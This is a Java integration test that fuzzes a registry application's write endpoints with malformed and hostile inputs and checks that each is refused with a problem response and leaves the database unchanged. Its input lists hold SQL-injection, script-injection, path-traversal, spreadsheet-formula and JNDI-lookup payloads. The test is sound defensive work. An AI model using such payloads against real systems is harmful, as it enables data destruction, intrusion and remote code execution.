package org.revflow.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.revflow.registry.DesignationService;
import org.revflow.registry.PersonInput;
import org.revflow.registry.PersonService;
import org.revflow.registry.RegistryLookups;
import org.revflow.registry.draw.DrawService;
import org.revflow.testsupport.RevFlowTest;
import org.revflow.testsupport.ReviewDriver;
import org.revflow.testsupport.TestUsers;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Issue 9's bad-input sweep: every write endpoint under {@code /api/} (found in Spring's handler
 * mapping, so a new one cannot be left out) gets a generated set of malformed and hostile inputs as
 * the signed-in secretariat: wrong JSON types, oversize strings, unknown codes, SQL and script
 * fragments, invalid UTF-8, wrong content types, bad path variables. Every answer must be a 4xx
 * with an RFC 9457 problem body, and no row of any application table may appear, vanish or change.
 *
 * <p>Each endpoint needs a {@link Target}: a nearly valid request that the generator spoils one
 * part at a time. Fields of free text (names, references, reasons) may legitimately hold SQL or
 * script fragments, so those go in only together with the target's {@code spoiler}, which makes the
 * request invalid on its own.
 */
@RevFlowTest
class ApiBadInputSweepTest {

  private static final Logger log = LoggerFactory.getLogger(ApiBadInputSweepTest.class);
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static final String BAD_UTF8 = "\u0001BAD-UTF8\u0001";
  private static final String OVERSIZE = "A".repeat(100_000);

  /** Values no code, date, number, enum or e-mail field may accept. */
  private static final List<String> HOSTILE =
      List.of(
          "ZZZ",
          "'; DROP TABLE review; --",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "\u0000\u0007\u001b",
          "\u202Eevil🦊",
          "1e999999",
          BAD_UTF8,
          OVERSIZE);

  /** What may stand in free text, sent only with a spoiler. */
  private static final List<String> HOSTILE_TEXT =
      List.of(
          "'; DROP TABLE review; --",
          "<script>alert(1)</script>",
          "=cmd|' /C calc'!A0",
          "\u202Eevil",
          "${jndi:ldap://x.example/a}");

  /** Path variables: as they appear in the URL, already encoded (or deliberately mis-encoded). */
  private static final List<String> HOSTILE_PATH =
      List.of(
          "ZZZ",
          "999999999",
          enc("1' OR '1'='1"),
          enc("<script>alert(1)</script>"),
          "%C3%28",
          "%00",
          "..%2F..%2Fetc%2Fpasswd",
          enc("🦊"),
          "A".repeat(3000));

  private static final Set<String> TEXT_FIELDS =
      Set.of("name", "reason", "reference", "noteVerbaleRef", "note_verbale_ref");

  @LocalServerPort int port;
  @Autowired JdbcTemplate jdbc;
  @Autowired ReviewDriver driver;
  @Autowired RegistryLookups registry;
  @Autowired PersonService people;
  @Autowired DesignationService designations;
  @Autowired DrawService draws;
  @Autowired org.revflow.review.ReviewPlanService plans;

  @Autowired
  @Qualifier("requestMappingHandlerMapping")
  RequestMappingHandlerMapping mappings;

  @AfterEach
  void stopReviews() {
    driver.cancelAllReviews();
  }

  /**
   * A nearly valid request for one endpoint.
   *
   * @param path with every path variable filled by an existing entity
   * @param contentType what the endpoint consumes
   * @param body JSON, or CSV text
   * @param spoilerField with {@code spoilerValue}, makes the request invalid by itself: a field
   *     (dotted path) and its value, or {@code path} and the whole path to use instead (e.g. an
   *     unknown id)
   */
  record Target(
      String path, String contentType, String body, String spoilerField, Object spoilerValue) {}

  record Input(String description, String path, String contentType, byte[] body) {}

  @Test
  void everyWriteEndpointRefusesBadInputWithAProblemAndChangesNothing() throws Exception {
    driver.permanentRepresentatives("PRY", "BOL", "ECU", "NZL");
    String review = driver.launch("PRY", 4, "BOL", "ECU");
    long person =
        people
            .createPerson(
                new PersonInput("Sweep Person", "sweep.person@pry.example", "es", null), "test")
            .id();
    designations.designateExperts(
        review,
        "BOL",
        List.of(new PersonInput("Sweep Expert", "sweep.expert@bol.example", "es", null)),
        "NV/BOL/1",
        driver.time().today(),
        null,
        "test");
    long designation = registry.designationHistory(review, "BOL").getFirst().id();
    long draw = draws.draw(new DrawService.DrawRequest(1, List.of("PRY"), 42L, null), "test").id();
    String today = driver.time().today().toString();
    String later = driver.time().today().plusMonths(2).toString();
    // A planned review waiting for its draw, for the workplan's endpoints.
    String planned =
        plans
            .plan(
                List.of(
                    new org.revflow.review.ReviewPlanService.Plan(
                        "TUV", 1, driver.time().today().plusMonths(3), null, null)),
                "test")
            .getFirst()
            .getId();
    driver.time().settle();

    Map<String, Target> targets = new LinkedHashMap<>();
    targets.put(
        "POST /api/reviews",
        new Target(
            "/api/reviews",
            "application/json",
            "{\"underReview\":\"PRY\",\"phase\":3,\"reviewers\":{\"UNTOC\":[\"BOL\",\"ECU\"]},\"launchDate\":\""
                + today
                + "\",\"rulebook\":\"default\"}",
            "underReview",
            "ZZZ"));
    targets.put(
        "POST /api/reviews/{id}/events",
        new Target(
            "/api/reviews/" + review + "/events",
            "application/json",
            "{\"type\":\"DEADLINE_EXTENDED\",\"step\":\"FOCAL_POINT\",\"state\":\"BOL\",\"newDue\":\""
                + later
                + "\",\"reference\":\"NV/1\",\"reason\":\"asked\",\"person\":{\"name\":\"A B\",\"email\":\"a@bol.example\","
                + "\"language\":\"es\"}}",
            "path",
            "/api/reviews/NOPE-P9-1999/events"));
    targets.put(
        "POST /api/registry/reviews/{reviewId}/designations",
        new Target(
            "/api/registry/reviews/" + review + "/designations",
            "application/json",
            "{\"stateCode\":\"ECU\",\"role\":\"EXPERT\",\"people\":[{\"name\":\"Expert Two\",\"email\":\"e2@ecu.example\","
                + "\"language\":\"es\"}],\"noteVerbaleRef\":\"NV/ECU/9\",\"receivedOn\":\""
                + today
                + "\"}",
            "stateCode",
            "ZZZ"));
    targets.put(
        "POST /api/registry/designations/{id}/end",
        new Target(
            "/api/registry/designations/" + designation + "/end",
            "application/json",
            "{\"noteVerbaleRef\":\"NV/end\",\"reason\":\"withdrawn\",\"effectiveAt\":\""
                + driver.time().now()
                + "\"}",
            "path",
            "/api/registry/designations/999999999/end"));
    targets.put(
        "POST /api/registry/designations/import",
        new Target(
            "/api/registry/designations/import",
            "text/csv",
            "review_id,state,role,name,email,language,note_verbale_ref,received_on\r\n"
                + review
                + ",ECU,EXPERT,Expert Three,e3@ecu.example,es,NV/ECU/10,"
                + today
                + "\r\n",
            "state",
            "ZZZ"));
    targets.put(
        "POST /api/registry/draws",
        new Target(
            "/api/registry/draws",
            "application/json",
            "{\"phase\":1,\"reviewedStates\":[\"PRY\"],\"seed\":42}",
            "reviewedStates",
            List.of("ZZZ")));
    targets.put(
        "POST /api/registry/draws/{id}/redraws",
        new Target(
            "/api/registry/draws/" + draw + "/redraws",
            "application/json",
            "{\"reviewedState\":\"PRY\",\"droppedReviewer\":\"BOL\",\"reason\":\"withdrew\",\"seed\":7}",
            "path",
            "/api/registry/draws/999999998/redraws"));
    targets.put(
        "POST /api/registry/people",
        new Target(
            "/api/registry/people",
            "application/json",
            "{\"name\":\"New Person\",\"email\":\"new.sweep@x.example\",\"language\":\"en\",\"timeZone\":\"Europe/Vienna\"}",
            "language",
            "zz"));
    targets.put(
        "PUT /api/registry/people/{id}",
        new Target(
            "/api/registry/people/" + person,
            "application/json",
            "{\"name\":\"Sweep Person\",\"email\":\"sweep.person@pry.example\",\"language\":\"fr\"}",
            "path",
            "/api/registry/people/999999999"));
    targets.put(
        "POST /api/registry/states",
        new Target(
            "/api/registry/states",
            "application/json",
            "{\"code\":\"ATA\",\"regionalGroup\":\"ASIA_PACIFIC\",\"instruments\":[\"CONVENTION\"]}",
            "code",
            "ZZZ"));
    targets.put(
        "PUT /api/registry/states/{code}",
        new Target(
            "/api/registry/states/NZL",
            "application/json",
            "{\"regionalGroup\":\"WESTERN_EUROPEAN_AND_OTHERS\",\"instruments\":[\"CONVENTION\",\"FIREARMS\"]}",
            "path",
            "/api/registry/states/ZZZ"));
    targets.put(
        "PUT /api/registry/states/{code}/instruments",
        new Target(
            "/api/registry/states/NZL/instruments",
            "application/json",
            "{\"convention\":true,\"traffickingInPersons\":true,\"smugglingOfMigrants\":false,"
                + "\"firearms\":false}",
            "path",
            "/api/registry/states/ZZZ/instruments"));
    targets.put(
        "POST /api/registry/states/instruments/import",
        new Target(
            "/api/registry/states/instruments/import",
            "text/csv",
            "alpha3,convention,trafficking_in_persons,smuggling_of_migrants,firearms\r\nNZL,yes,yes,no,yes\r\n",
            "alpha3",
            "ZZZ"));
    targets.put(
        "PUT /api/registry/states/{code}/permanent-representative",
        new Target(
            "/api/registry/states/NZL/permanent-representative",
            "application/json",
            "{\"person\":{\"name\":\"PR Two\",\"email\":\"pr2@nzl.example\",\"language\":\"en\"}}",
            "path",
            "/api/registry/states/ZZZ/permanent-representative"));
    targets.put(
        "POST /api/workplan",
        new Target(
            "/api/workplan",
            "application/json",
            "{\"plans\":[{\"state\":\"ECU\",\"phase\":1,\"plannedOn\":\""
                + later
                + "\",\"group\":1,"
                + "\"reviewers\":{\"UNTOC\":[\"BOL\",\"PRY\"]}}]}",
            "plans.0.state",
            "ZZZ"));
    for (String action : List.of("move", "cancel", "launch")) {
      targets.put(
          "POST /api/workplan/{id}/" + action,
          new Target(
              "/api/workplan/" + planned + "/" + action,
              "application/json",
              "{\"plannedOn\":\"" + later + "\",\"reason\":\"asked by note verbale\"}",
              "path",
              "/api/workplan/NOPE-P9-1999/" + action));
    }
    targets.put(
        "POST /api/workplan/{id}/draw",
        new Target(
            "/api/workplan/" + planned + "/draw",
            "application/json",
            "{\"reviewers\":{\"UNTOC\":[\"BOL\",\"ECU\"]},\"reference\":\"draw of 1 May\"}",
            "path",
            "/api/workplan/NOPE-P9-1999/draw"));
    targets.put(
        "POST /api/simulations",
        new Target(
            "/api/simulations",
            "application/json",
            "{\"start\":\"2027-03-01\",\"until\":\"2027-03-03\",\"review\":{\"underReview\":\"CHL\",\"phase\":1,"
                + "\"reviewers\":{\"UNTOC\":[\"ESP\",\"MAR\"]}},\"contacts\":[{\"state\":\"CHL\",\"role\":"
                + "\"PERMANENT_REPRESENTATIVE\",\"name\":\"PR\",\"email\":\"pr@chl.example\",\"language\":\"es\"}],"
                + "\"events\":[{\"on\":\"2027-03-02\",\"type\":\"PRELIMINARY_CONSULTATION_HELD\",\"reference\":\"NV/1\"}]}",
            "review.underReview",
            "ZZZ"));

    // Every write endpoint of the API, from Spring's own mapping.
    Map<String, String> endpoints = new TreeMap<>();
    mappings
        .getHandlerMethods()
        .forEach(
            (info, method) -> {
              for (String pattern : info.getPatternValues()) {
                for (RequestMethod m : info.getMethodsCondition().getMethods()) {
                  if (pattern.startsWith("/api/")
                      && Set.of(
                              RequestMethod.POST,
                              RequestMethod.PUT,
                              RequestMethod.PATCH,
                              RequestMethod.DELETE)
                          .contains(m)) {
                    endpoints.put(m + " " + pattern, method.toString());
                  }
                }
              }
            });
    assertThat(endpoints).as("write endpoints found").isNotEmpty();
    assertThat(new TreeSet<>(targets.keySet()))
        .as("every write endpoint needs a Target here, so that it gets generated inputs")
        .containsAll(endpoints.keySet());

    Map<String, Long> before = tableState();
    List<String> failures = new ArrayList<>();
    int sent = 0;
    Map<String, Integer> perEndpoint = new TreeMap<>();
    for (String endpoint : endpoints.keySet()) {
      String method = endpoint.substring(0, endpoint.indexOf(' '));
      List<Input> inputs =
          inputs(endpoint.substring(endpoint.indexOf(' ') + 1), targets.get(endpoint));
      assertThat(inputs).as("generated inputs of " + endpoint).isNotEmpty();
      perEndpoint.put(endpoint, inputs.size());
      log.info("Bad-input sweep: {} inputs for {}", inputs.size(), endpoint);
      for (Input input : inputs) {
        sent++;
        long started = System.nanoTime();
        String problem = check(method, input);
        long millis = (System.nanoTime() - started) / 1_000_000;
        if (millis > 2_000) {
          log.warn("Bad-input sweep: {} / {} took {} ms", endpoint, input.description(), millis);
        }
        if (problem != null) {
          failures.add(endpoint + " / " + input.description() + ": " + problem);
        }
      }
    }
    driver.time().settle();
    Map<String, Long> after = tableState();
    log.info(
        "Bad-input sweep: {} write endpoints x {} inputs on average = {} requests; per endpoint {}",
        endpoints.size(),
        sent / endpoints.size(),
        sent,
        perEndpoint);
    assertThat(failures)
        .as("answers that were not a 4xx problem (" + failures.size() + " of " + sent + ")")
        .isEmpty();
    assertThat(after).as("row counts and checksums of every application table").isEqualTo(before);
  }

  /**
   * Row count and checksum of every table of the application's schema, found in information_schema.
   */
  private Map<String, Long> tableState() {
    Map<String, Long> state = new TreeMap<>();
    List<String> tables =
        jdbc.queryForList(
            "SELECT table_name FROM information_schema.tables "
                + "WHERE table_schema = DATABASE() AND table_type = 'BASE TABLE'",
            String.class);
    assertThat(tables).contains("review", "registry_person", "notice");
    for (String t : tables) {
      state.put(t + " rows", jdbc.queryForObject("SELECT COUNT(*) FROM `" + t + "`", Long.class));
      state.put(
          t + " checksum",
          jdbc.queryForObject("CHECKSUM TABLE `" + t + "`", (rs, i) -> rs.getLong(2)));
    }
    return state;
  }

  private List<Input> inputs(String pattern, Target t) throws Exception {
    List<Input> inputs = new ArrayList<>();
    boolean csv = t.contentType().equals("text/csv");
    byte[] base = t.body().getBytes(StandardCharsets.UTF_8);

    // Path variables: each one spoiled, the body as given.
    Matcher vars = Pattern.compile("\\{[^}]+}").matcher(pattern);
    while (vars.find()) {
      String var = vars.group();
      for (String bad : HOSTILE_PATH) {
        inputs.add(
            new Input(
                "path " + var + "=" + abbreviate(bad),
                replaceVar(pattern, t.path(), var, bad),
                t.contentType(),
                base));
      }
    }

    // The body as a whole.
    inputs.add(new Input("empty body", t.path(), t.contentType(), new byte[0]));
    inputs.add(
        new Input(
            "garbage body", t.path(), t.contentType(), OVERSIZE.getBytes(StandardCharsets.UTF_8)));
    inputs.add(
        new Input(
            "invalid UTF-8 body",
            t.path(),
            t.contentType(),
            withBadUtf8(
                t.body().substring(0, t.body().length() / 2)
                    + BAD_UTF8
                    + t.body().substring(t.body().length() / 2))));
    for (String type :
        List.of(
            "application/xml",
            "application/x-www-form-urlencoded",
            csv ? "application/json" : "text/csv")) {
      inputs.add(new Input("content type " + type, t.path(), type, base));
    }
    inputs.add(new Input("no content type", t.path(), null, base));
    if (csv) {
      csvInputs(t, inputs);
      return inputs;
    }
    for (String body :
        List.of(
            "{",
            "[]",
            "\"text\"",
            "42",
            "null",
            "{\"a\":}",
            "[".repeat(5000) + "]".repeat(5000),
            "{\"x\":\"" + OVERSIZE + "\"",
            t.body() + t.body())) {
      inputs.add(
          new Input(
              "body " + abbreviate(body),
              t.path(),
              t.contentType(),
              body.getBytes(StandardCharsets.UTF_8)));
    }

    // Each field: wrong JSON types, oversize, hostile values; free text only with the spoiler.
    JsonNode root = JSON.readTree(t.body());
    for (String field : leaves(root, "")) {
      JsonNode value = at(root, field);
      List<JsonNode> wrongTypes = new ArrayList<>();
      JsonNodeFactory f = JsonNodeFactory.instance;
      if (value.isTextual()) {
        wrongTypes.add(f.objectNode().put("a", 1));
        wrongTypes.add(f.arrayNode().add("ZZZ").add(1));
      } else if (value.isNumber()) {
        wrongTypes.add(f.textNode("abc"));
        wrongTypes.add(f.objectNode());
        wrongTypes.add(f.numberNode(new java.math.BigInteger("9".repeat(40))));
        wrongTypes.add(f.numberNode(1.5));
      } else if (value.isBoolean()) {
        wrongTypes.add(f.textNode("maybe"));
        wrongTypes.add(f.objectNode());
        wrongTypes.add(f.arrayNode().add(true));
      } else if (value.isArray()) {
        wrongTypes.add(f.textNode("ZZZ"));
        wrongTypes.add(f.objectNode().put("a", 1));
        wrongTypes.add(f.numberNode(7));
      } else if (value.isObject()) {
        wrongTypes.add(f.textNode("ZZZ"));
        wrongTypes.add(f.arrayNode().add(1));
        wrongTypes.add(f.numberNode(7));
      }
      for (JsonNode wrong : wrongTypes) {
        inputs.add(
            json(t, field + " as " + abbreviate(wrong.toString()), root, field, wrong, false));
      }
      if (!value.isValueNode()) {
        continue;
      }
      boolean text = TEXT_FIELDS.contains(field.replaceAll(".*\\.", ""));
      if (text) {
        inputs.add(json(t, field + " oversize", root, field, f.textNode(OVERSIZE), false));
        inputs.add(json(t, field + " invalid UTF-8", root, field, f.textNode(BAD_UTF8), false));
        for (String h : HOSTILE_TEXT) {
          inputs.add(
              json(
                  t,
                  field + "=" + abbreviate(h) + " with spoiler",
                  root,
                  field,
                  f.textNode(h),
                  true));
        }
      } else {
        for (String h : HOSTILE) {
          inputs.add(json(t, field + "=" + abbreviate(h), root, field, f.textNode(h), false));
        }
      }
    }
    return inputs;
  }

  private void csvInputs(Target t, List<Input> inputs) {
    String[] lines = t.body().split("\r\n");
    String[] header = lines[0].split(",");
    String[] cells = lines[1].split(",");
    int spoiler = List.of(header).indexOf(t.spoilerField());
    for (int i = 0; i < header.length; i++) {
      boolean text = TEXT_FIELDS.contains(header[i]);
      for (String h : text ? HOSTILE_TEXT : HOSTILE) {
        String[] bad = cells.clone();
        bad[i] = "\"" + h.replace("\"", "\"\"") + "\"";
        if (text) {
          bad[spoiler] = (String) t.spoilerValue();
        }
        inputs.add(
            new Input(
                header[i] + "=" + abbreviate(h) + (text ? " with spoiler" : ""),
                t.path(),
                t.contentType(),
                withBadUtf8(lines[0] + "\r\n" + String.join(",", bad) + "\r\n")));
      }
      String[] big = cells.clone();
      big[i] = OVERSIZE;
      inputs.add(
          new Input(
              header[i] + " oversize",
              t.path(),
              t.contentType(),
              (lines[0] + "\r\n" + String.join(",", big) + "\r\n")
                  .getBytes(StandardCharsets.UTF_8)));
    }
    for (String body :
        List.of(
            "\r\n",
            "only,a,header\r\n",
            lines[0] + "\r\n" + lines[1] + ",extra,cells\r\n",
            lines[0] + "\r\n\"unclosed," + lines[1] + "\r\n",
            lines[1] + "\r\n",
            "\uFEFF\uFEFF" + t.body())) {
      inputs.add(
          new Input(
              "csv " + abbreviate(body),
              t.path(),
              t.contentType(),
              body.getBytes(StandardCharsets.UTF_8)));
    }
  }

  private Input json(
      Target t, String description, JsonNode root, String field, JsonNode value, boolean spoil)
      throws Exception {
    JsonNode copy = root.deepCopy();
    set(copy, field, value);
    String path = t.path();
    if (spoil && t.spoilerField().equals("path")) {
      path = (String) t.spoilerValue();
    } else if (spoil) {
      set(copy, t.spoilerField(), JSON.valueToTree(t.spoilerValue()));
    }
    return new Input(
        description, path, t.contentType(), withBadUtf8(JSON.writeValueAsString(copy)));
  }

  private static String replaceVar(String pattern, String path, String var, String value) {
    String[] p = pattern.split("/");
    String[] v = path.split("/");
    for (int i = 0; i < p.length; i++) {
      if (p[i].equals(var)) {
        v[i] = value;
      }
    }
    return String.join("/", v);
  }

  private String check(String method, Input input) {
    try {
      HttpRequest.Builder b =
          HttpRequest.newBuilder(URI.create("http://localhost:" + port + input.path()))
              .method(method, HttpRequest.BodyPublishers.ofByteArray(input.body()))
              .header(
                  "Authorization",
                  "Basic "
                      + Base64.getEncoder()
                          .encodeToString(
                              (TestUsers.SECRETARIAT + ":" + TestUsers.SECRETARIAT_PASSWORD)
                                  .getBytes(StandardCharsets.UTF_8)));
      if (input.contentType() != null) {
        b.header("Content-Type", input.contentType());
      }
      HttpResponse<byte[]> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
      String type = r.headers().firstValue("Content-Type").orElse("");
      String body = new String(r.body(), StandardCharsets.UTF_8);
      if (r.statusCode() < 400 || r.statusCode() >= 500) {
        return r.statusCode() + " " + abbreviate(body);
      }
      if (!type.startsWith("application/problem+json")) {
        return r.statusCode() + " with " + type + ": " + abbreviate(body);
      }
      JsonNode problem = JSON.readTree(body);
      if (problem.path("status").asInt() != r.statusCode()
          || problem.path("title").asText().isBlank()) {
        return "problem body without status or title: " + abbreviate(body);
      }
      return null;
    } catch (Exception e) {
      return "request failed: " + e;
    }
  }

  private static List<String> leaves(JsonNode node, String prefix) {
    List<String> out = new ArrayList<>();
    if (!prefix.isEmpty()) {
      out.add(prefix);
    }
    if (node.isObject()) {
      node.fieldNames()
          .forEachRemaining(
              n -> out.addAll(leaves(node.get(n), prefix.isEmpty() ? n : prefix + "." + n)));
    } else if (node.isArray() && !node.isEmpty()) {
      out.addAll(leaves(node.get(0), prefix + ".0"));
    }
    return out;
  }

  private static JsonNode at(JsonNode root, String path) {
    JsonNode n = root;
    for (String p : path.split("\\.")) {
      n = n.isArray() ? n.get(Integer.parseInt(p)) : n.get(p);
    }
    return n;
  }

  private static void set(JsonNode root, String path, JsonNode value) {
    int dot = path.lastIndexOf('.');
    JsonNode parent = dot < 0 ? root : at(root, path.substring(0, dot));
    String last = path.substring(dot + 1);
    if (parent instanceof ArrayNode a) {
      a.set(Integer.parseInt(last), value);
    } else {
      ((ObjectNode) parent).set(last, value);
    }
  }

  /** UTF-8 bytes of the text, with each marker replaced by bytes that are not UTF-8. */
  private static byte[] withBadUtf8(String text) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    String[] parts = text.split(Pattern.quote(BAD_UTF8), -1);
    for (int i = 0; i < parts.length; i++) {
      out.writeBytes(parts[i].getBytes(StandardCharsets.UTF_8));
      if (i < parts.length - 1) {
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE});
      }
    }
    return out.toByteArray();
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static String abbreviate(String s) {
    String one = s.replace("\n", " ").replace("\r", " ");
    return one.length() <= 60 ? one : one.substring(0, 60) + "...(" + s.length() + ")";
  }
}
